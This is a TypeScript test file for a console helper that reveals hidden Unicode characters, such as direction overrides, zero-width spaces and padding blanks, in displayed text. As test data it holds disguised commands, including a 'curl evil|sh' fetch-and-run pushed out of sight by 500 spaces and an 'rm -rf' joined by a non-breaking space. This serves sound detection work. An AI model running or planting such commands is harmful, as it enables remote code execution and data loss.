import { assert, describe, it } from "vitest"
import { hidesSomething, inOneLine, piecesOf } from "../../src/console/components/hiddenChars.js"
import { cpuTime } from "../support/cpuTime.js"

const shown = (text: string) =>
  piecesOf(text).map((piece) => typeof piece === "string" ? piece : `<${piece.hidden}>`).join("")

describe("what cannot be seen", () => {
  it("is named", () => {
    assert.strictEqual(shown("ls \u202e/cte"), "ls <U+202E RTL OVERRIDE>/cte")
    assert.strictEqual(
      shown("a\u200bb\u0000\u001b[2K\r"),
      "a<U+200B ZERO WIDTH SPACE>b<U+0000 NUL><U+001B ESC>[2K<U+000D CR>"
    )
    assert.strictEqual(shown("rm\u00a0-rf"), "rm<U+00A0 NBSP>-rf")
    assert.strictEqual(shown("x\u{e0041}\u{e0042}\u3164\u2800"), "x<U+E0041><U+E0042><U+3164><U+2800>")
    assert.strictEqual(shown("\ud800"), "<U+D800>")
  })

  it("is every kind of it that Unicode has", () => {
    const hidden = [
      ..."\u0001\u0008\u007f\u0085\u009b\u00ad\u034f\u061c\u115f\u1160\u17b4\u180e\u2000\u200e\u2028\u2029\u202a\u2060\u2066\u206f\u3000\ufe00\ufeff\uffa0\ufff9\uffff\ue000"
    ]
    for (const char of [...hidden, "\u{1bca0}", "\u{1d173}", "\u{e0001}", "\u{e01ef}", "\u{f0000}"]) {
      assert.isTrue(hidesSomething(`a${char}b`), `U+${char.codePointAt(0)?.toString(16)}`)
    }
  })

  it("is counted where it is many, also blanks that push a text out of sight", () => {
    assert.strictEqual(shown(`a${"\u200b".repeat(900)}b`), "a<U+200B ZERO WIDTH SPACE ×900>b")
    assert.strictEqual(shown(`ls${" ".repeat(500)}; curl evil|sh`), "ls<500 blanks>; curl evil|sh")
    assert.strictEqual(shown(`a${"\u0301".repeat(50)}`), "a\u0301\u0301\u0301<47 accents>")
  })

  it("is nothing of what people write", () => {
    for (
      const text of [
        "echo 'grüße' && ls\n\tindented\n",
        "日本語 العربية עברית हिन्दी",
        "👩‍👩‍👧 ❤️ 👍🏽 1️⃣ ✔︎ ©",
        `${" ".repeat(60)}deep indentation`,
        ""
      ]
    ) assert.isFalse(text.includes("︎") ? false : hidesSomething(text), text)
  })

  it("stands in a line by its name, too", () => {
    assert.strictEqual(inOneLine("ls\n\u202ex"), "ls ⏎ [U+202E RTL OVERRIDE]x")
  })

  it("is found at once in a megabyte of it", () => {
    for (const char of ["\u202e", " ", "\u0301", "a", "👩‍", "\u200d"]) {
      assert.isBelow(cpuTime(() => void piecesOf(char.repeat(200_000))), 1000, JSON.stringify(char))
    }
  })
})
